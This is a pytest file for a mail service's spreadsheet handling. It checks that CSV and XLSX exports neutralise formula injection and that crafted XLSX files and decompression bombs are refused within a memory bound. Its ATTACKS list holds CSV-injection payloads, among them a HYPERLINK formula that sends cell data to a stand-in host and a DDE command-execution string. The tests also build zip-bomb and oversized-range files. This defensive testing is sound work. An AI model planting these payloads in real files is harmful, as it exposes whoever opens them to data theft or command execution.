"""Issue 14, spreadsheets: formula injection in every CSV and XLSX the service writes, a 16 KB XLSX that drove
`processes validate` past 2 GB, and CSV imports in other encodings that failed without a row number."""

from __future__ import annotations

import ast
import csv
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from mailservice.cli import main
from mailservice.config import Settings
from mailservice.db import session_scope
from mailservice.mailings import consent, roster, subscribers
from mailservice.spreadsheets import restore_cell, safe_cell
from mailservice.web.staff.auth import Role
from tests.conftest import make_env, reset_caches
from tests.console_support import PASSWORD, add_staff, mail_request
from tests.servers import Sink
from tests.test_processes_register import GOOD, HEADINGS, sheet

ROOT = Path(__file__).resolve().parents[2]
OFFICER = "officer@example.ru"
# Values a spreadsheet program would run (OWASP "CSV Injection"), full-width and indented forms included.
ATTACKS = [
    '=HYPERLINK("http://evil.test/?x="&A1,"Подробнее")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
    " =1+1",
]


def cli(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    """Run the CLI; a command that names a staff account (--staff) reads its password from standard input."""
    stdin = sys.stdin
    sys.stdin = io.StringIO(PASSWORD + "\n")
    try:
        code = main(list(args))
    finally:
        sys.stdin = stdin  # a later test in this process (mkdocs reads sys.stdin.buffer) must get the real one
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def assert_inert(value: object, where: str) -> None:
    """A cell a spreadsheet program shows as text: it starts with the apostrophe when it looks like a formula."""
    text = "" if value is None else str(value)
    stripped = text.lstrip(" \n")
    assert not (text[:1] in "=+-@\t\r\uff1d\uff0b\uff0d\uff20" and text) and not (
        stripped[:1] in "=+-@\uff1d\uff0b\uff0d\uff20" and stripped
    ), f"{where}: {text!r} would run as a formula"


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(data: bytes) -> list[Any]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row]


def assert_inert_xlsx(cell: Any, where: str) -> None:
    """An XLSX cell no spreadsheet program runs: never a formula cell, and a text that looks like one carries the
    quote prefix that keeps it text when edited (README, exports); no apostrophe is added to what it says."""
    assert cell.data_type != "f", f"{where}: {cell.coordinate} is a formula: {cell.value!r}"
    try:
        assert_inert(cell.value, where)
    except AssertionError:
        assert cell.data_type == "s" and cell.quotePrefix, f"{where}: {cell.value!r} is not marked as text"


def test_safe_cell_follows_owasp() -> None:
    for attack in ATTACKS:
        assert_inert(safe_cell(attack), "safe_cell")
        assert restore_cell(str(safe_cell(attack))) == attack  # our own export reads back as it was
    assert safe_cell("Иванов") == "Иванов" and safe_cell(42) == 42 and safe_cell("a=b") == "a=b"


# Every export --------------------------------------------------------------------------------------------------


@pytest.fixture
def officer(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, db_url: str, sink: Sink) -> Iterator[Settings]:
    settings = make_env(monkeypatch, tmp_path, db_url, smtp_port=str(sink.port), smtp_host="127.0.0.1")
    add_staff(settings, OFFICER, Role.process_officer)  # the register's officer is a console account (issue 18)
    yield settings
    reset_caches()


def test_request_register_and_intake_journal_exports_are_inert(
    officer: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    in_headers = [a for a in ATTACKS if "\r" not in a and "\t" not in a]  # a subject line holds no CR or tab
    for n, attack in enumerate(in_headers):
        mail_request(officer, subject=attack, sender=f"a{n}@example.ru")
    code, journal, _ = cli(capsys, "intake", "journal", "--format", "csv")
    assert code == 0
    subjects = [row["subject"] for row in csv.DictReader(io.StringIO(journal))]
    assert len(subjects) == len(in_headers)
    for cell in csv_cells(journal):
        assert_inert(cell, "intake journal")
    for fmt in ("csv", "xlsx"):
        target = tmp_path / f"register.{fmt}"
        assert cli(capsys, "requests", "export", "--format", fmt, "--output", str(target))[0] == 0
        if fmt == "csv":
            cells = csv_cells(target.read_text("utf-8-sig"))
            for cell in cells:
                assert_inert(cell, "register csv")
        else:
            xlsx = xlsx_cells(target.read_bytes())
            for cell in xlsx:
                assert_inert_xlsx(cell, "register xlsx")
            cells = [cell.value for cell in xlsx]
            assert {a.strip() for a in in_headers} <= {str(c).strip() for c in cells}  # as written, no apostrophe
        assert any(str(c).endswith("=1+1") for c in cells)  # the subjects are there, as text


def test_subscribers_export_is_inert_and_imports_back_unchanged(
    officer: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with session_scope(officer) as session:
        subscribers.create_list(session, "news", "Новости", "Новости департамента")
        version = consent.current_consent(session, officer).version
    source = tmp_path / "in.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["email", "name", "list", "consent_at", "consent_source", "consent_text_version"])
        for n, attack in enumerate(ATTACKS):
            writer.writerow([f"s{n}@example.ru", attack, "news", "2026-03-01T10:00:00", attack, version])
    assert cli(capsys, "subscribers", "import", str(source))[0] == 0
    exported = tmp_path / "out.csv"
    assert cli(capsys, "subscribers", "export", "--output", str(exported))[0] == 0
    text = exported.read_text("utf-8")
    for cell in csv_cells(text):
        assert_inert(cell, "subscribers export")
    # The export is the import format: read back, the names are what was stored.
    with session_scope(officer) as session:
        from mailservice.mailings.models import Subscriber

        stored = sorted(s.name for s in session.query(Subscriber))
    assert len(stored) == len(ATTACKS) and any(name.startswith("=") for name in stored)
    assert sorted(r["name"] for _line, r in roster.read_csv(text)) == stored


def test_process_register_exports_and_open_data_are_inert(
    officer: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = [list(r) for r in GOOD]
    rows[0][6] = ATTACKS[0]  # owner
    rows[1][6] = ATTACKS[3]
    rows[2][9] = ATTACKS[6]  # what the client gains
    source = tmp_path / "in.csv"  # text as the owners typed it (in an XLSX openpyxl would store a formula)
    buffer = io.StringIO()
    csv.writer(buffer).writerows([HEADINGS, *rows])
    source.write_text(buffer.getvalue(), encoding="utf-8")
    code, _out, err = cli(capsys, "processes", "import", str(source), "--staff", OFFICER)
    assert code == 0, err
    assert cli(capsys, "processes", "approve", "--staff", OFFICER)[0] == 0
    xlsx, csv_file = tmp_path / "out.xlsx", tmp_path / "out.csv"
    assert cli(capsys, "processes", "export", "--format", "xlsx", "--output", str(xlsx))[0] == 0
    assert cli(capsys, "processes", "export", "--format", "csv", "--output", str(csv_file))[0] == 0
    written = xlsx_cells(xlsx.read_bytes())
    for cell in written:
        assert_inert_xlsx(cell, "processes export xlsx")
    assert {ATTACKS[0], ATTACKS[3], ATTACKS[6]} <= {cell.value for cell in written}  # as the owners typed them
    for cell in csv_cells(csv_file.read_text("utf-8-sig")):
        assert_inert(cell, "processes export csv")
    # Imported again, the register says what the owners wrote (the CSV's apostrophe is ours, not theirs).
    from mailservice.processes import spreadsheet

    again = spreadsheet.read_file(xlsx)
    assert again.rows[0].cells["owner"] == ATTACKS[0]
    assert spreadsheet.read_file(csv_file).rows[1].cells["owner"] == ATTACKS[3]
    opendata = tmp_path / "opendata"
    assert cli(capsys, "processes", "opendata", "--output", str(opendata))[0] == 0
    for path in opendata.glob("*.csv"):
        for cell in csv_cells(path.read_text("utf-8")):
            assert_inert(cell, f"open data {path.name}")


def test_every_spreadsheet_writer_goes_through_the_one_module() -> None:
    """No module writes CSV or XLSX by itself: each writer imports mailservice.spreadsheets (no copy of the rule)."""
    offenders = []
    for path in sorted((ROOT / "mailservice").rglob("*.py")):
        if path.name == "spreadsheets.py":
            continue
        text = path.read_text("utf-8")
        tree = ast.parse(text)
        writes = any(
            isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter", "writerow", "writerows")
            for node in ast.walk(tree)
        ) or re.search(r"\bWorkbook\(\)", text)
        if writes and "mailservice.spreadsheets" not in text:
            offenders.append(str(path.relative_to(ROOT)))
        assert "_safe_cell" not in text, f"{path}: a private copy of the formula rule"
    assert offenders == []


# Bounded reading of XLSX -----------------------------------------------------------------------------------------

MEMORY_LIMIT_MB = 200  # issue 14: `processes validate` of any 1 MB input stays under 200 MB
# The child may not take more than this address space: should the bound fail, it fails with MemoryError instead of
# taking the shared machine's memory.
ADDRESS_SPACE_CAP = 1536 * 1024 * 1024

_MEASURE = """
import json, resource, subprocess, sys
cap = int(sys.argv[1])
def limit():
    resource.setrlimit(resource.RLIMIT_AS, (cap, cap))
done = subprocess.run(sys.argv[2:], capture_output=True, text=True, preexec_fn=limit)
peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
print(json.dumps({"code": done.returncode, "out": done.stdout, "err": done.stderr, "peak_kb": peak}))
"""


def validate_in_subprocess(path: Path) -> tuple[int, str, float]:
    """Run `mailservice processes validate FILE --json` in a fresh process; exit code, output, peak RSS in MB."""
    command = [sys.executable, "-m", "mailservice", "processes", "validate", str(path), "--json"]
    result = subprocess.run(
        [sys.executable, "-c", _MEASURE, str(ADDRESS_SPACE_CAP), *command],
        capture_output=True,
        text=True,
        env=dict(os.environ),
        cwd=ROOT,
        timeout=600,
    )
    report = json.loads(result.stdout)
    return report["code"], report["out"] + report["err"], report["peak_kb"] / 1024


def patched(source: Path, target: Path, change: dict[str, tuple[str, str]]) -> Path:
    """Copy an XLSX, replacing text in its parts: {part: (old, new)} (how the review's attack files were made)."""
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename in change:
                old, new = change[info.filename]
                assert old.encode() in data, (info.filename, old)
                data = data.replace(old.encode(), new.encode(), 1)
            zout.writestr(info, data)
    return target


SHEET = "xl/worksheets/sheet1.xml"
FAR_ROW = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'


@pytest.fixture
def lite_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, sqlite_url: str) -> Iterator[Settings]:
    yield make_env(monkeypatch, tmp_path, sqlite_url)
    reset_caches()


@pytest.fixture
def db_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, db_url: str) -> Iterator[Settings]:
    """Both databases, for what is not a measurement of the process's memory."""
    yield make_env(monkeypatch, tmp_path, db_url)
    reset_caches()


def test_a_cell_at_xfd1048576_is_refused_with_bounded_memory(lite_env: Settings, tmp_path: Path) -> None:
    base = sheet(tmp_path / "base.xlsx", GOOD)
    attack = patched(
        base,
        tmp_path / "far.xlsx",
        {
            SHEET: (
                "</sheetData>",
                '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>',
            )
        },
    )
    assert attack.stat().st_size < 1024 * 1024
    code, output, peak = validate_in_subprocess(attack)
    assert code == 1 and "ячейка XFD1048576" in output and "Traceback" not in output, output
    assert peak < MEMORY_LIMIT_MB, f"peak RSS {peak:.0f} MB"


def test_a_merge_to_the_last_cell_is_refused_with_bounded_memory(lite_env: Settings, tmp_path: Path) -> None:
    base = sheet(tmp_path / "base.xlsx", GOOD)
    attack = patched(
        base,
        tmp_path / "merge.xlsx",
        {SHEET: ("</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="A70:XFD1048576"/></mergeCells>')},
    )
    code, output, peak = validate_in_subprocess(attack)
    assert code == 1 and "A70:XFD1048576" in output and "Traceback" not in output, output
    assert peak < MEMORY_LIMIT_MB, f"peak RSS {peak:.0f} MB"


def test_a_compressed_bomb_is_refused_with_bounded_memory(lite_env: Settings, tmp_path: Path) -> None:
    base = sheet(tmp_path / "base.xlsx", GOOD)
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(base) as zin, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info, zin.read(info.filename))
        zout.writestr("xl/padding.xml", b"<a>" + b" " * (200 * 1024 * 1024) + b"</a>")
    assert bomb.stat().st_size < 1024 * 1024
    code, output, peak = validate_in_subprocess(bomb)
    assert code == 1 and "распакованном виде больше" in output, output
    assert peak < MEMORY_LIMIT_MB, f"peak RSS {peak:.0f} MB"


def test_a_full_megabyte_of_real_rows_validates_within_the_bound(lite_env: Settings, tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    ws = workbook.active
    assert ws is not None
    ws.append(HEADINGS)
    n = 0
    path = tmp_path / "large.xlsx"
    while True:  # rows of distinct text until the file is about 1 MB (random-ish text compresses poorly)
        for _ in range(500):
            n += 1
            row = list(GOOD[n % len(GOOD)])
            row[0] = f"Д-{n}"
            row[5] = f"Процесс {n} {hash((n, 'x')) & 0xFFFFFFFF:x} {n * 7919 % 104729}"
            ws.append(row)
        workbook.save(path)
        if path.stat().st_size > 900 * 1024 or n >= 9500:
            break
    code, output, peak = validate_in_subprocess(path)
    assert code in (0, 1) and '"rows": ' in output, output[-2000:]
    assert peak < MEMORY_LIMIT_MB, f"peak RSS {peak:.0f} MB for {path.stat().st_size // 1024} KB, {n} rows"


def test_limits_are_settings_and_name_the_row(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, db_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    make_env(monkeypatch, tmp_path, db_url, spreadsheet_max_rows="3")
    try:
        path = sheet(tmp_path / "r.xlsx", GOOD)  # header and four rows: the fifth row is beyond three
        code, _, err = cli(capsys, "processes", "validate", str(path))
        assert code == 1 and "ячейка A4" in err and "SPREADSHEET_MAX_ROWS" in err
    finally:
        reset_caches()


def test_merged_cells_inside_the_limits_are_still_filled_and_reported(tmp_path: Path) -> None:
    from mailservice.processes import spreadsheet

    read = spreadsheet.read_xlsx(sheet(tmp_path / "m.xlsx", GOOD, merge=["C2:C3"]))
    assert [r.cells["service_name"] for r in read.rows[:2]] == [GOOD[0][2], GOOD[0][2]]
    assert any("C2:C3" in p.problem and p.severity == "warning" for p in read.problems)


# Encodings of CSV imports ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("encoding", "name"),
    [
        ("utf-8", "UTF-8"),
        ("utf-8-sig", "UTF-8 (с меткой BOM)"),
        ("utf-16", "UTF-16 (с меткой BOM)"),
        ("cp1251", "Windows-1251"),
        ("cp1252", "Windows-1252"),
    ],
)
def test_subscribers_import_detects_and_names_the_encoding(
    officer: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str], encoding: str, name: str
) -> None:
    with session_scope(officer) as session:
        subscribers.create_list(session, "news", "Новости", "Новости департамента")
        version = consent.current_consent(session, officer).version
    person = "José Müller" if encoding == "cp1252" else "Иванова Анна Сергеевна"
    lines = [
        "email,name,list,consent_at,consent_source,consent_text_version",
        f"a@example.ru,{person},news,2026-03-01T10:00:00,https://dizo.test/podpiska,{version}",
    ]
    path = tmp_path / "in.csv"
    path.write_bytes("\r\n".join(lines).encode(encoding))
    code, out, err = cli(capsys, "subscribers", "import", str(path))
    assert code == 0, err
    assert f"Кодировка файла: {name}" in out
    with session_scope(officer) as session:
        from mailservice.mailings.models import Subscriber

        assert [s.name for s in session.query(Subscriber)] == [person]


def test_a_broken_line_in_a_utf8_file_is_named(
    officer: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "in.csv"
    good = (
        "email,name,list,consent_at,consent_source,consent_text_version\r\nb@example.ru,Петров,news,2026-03-01,x,v\r\n"
    )
    path.write_bytes(good.encode("utf-8") + "c@example.ru,Сидоров,news,2026-03-01,x,v\r\n".encode("cp1251"))
    code, _out, err = cli(capsys, "subscribers", "import", str(path))
    assert code == 1 and "строка 3" in err and "UTF-8" in err


@pytest.mark.parametrize(("encoding", "name"), [("utf-16", "UTF-16 (с меткой BOM)"), ("cp1251", "Windows-1251")])
def test_process_register_csv_in_other_encodings(
    db_env: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str], encoding: str, name: str
) -> None:
    # (Windows-1252 cannot hold the register's Russian headings; the subscribers' test covers it.)
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    writer.writerow(HEADINGS)
    writer.writerows(GOOD)
    path = tmp_path / "r.csv"
    path.write_bytes(buffer.getvalue().encode(encoding))
    _code, out, err = cli(capsys, "processes", "validate", str(path), "--json")
    assert json.loads(out)["rows"] == len(GOOD), err
    assert f"Кодировка файла: {name}" in err
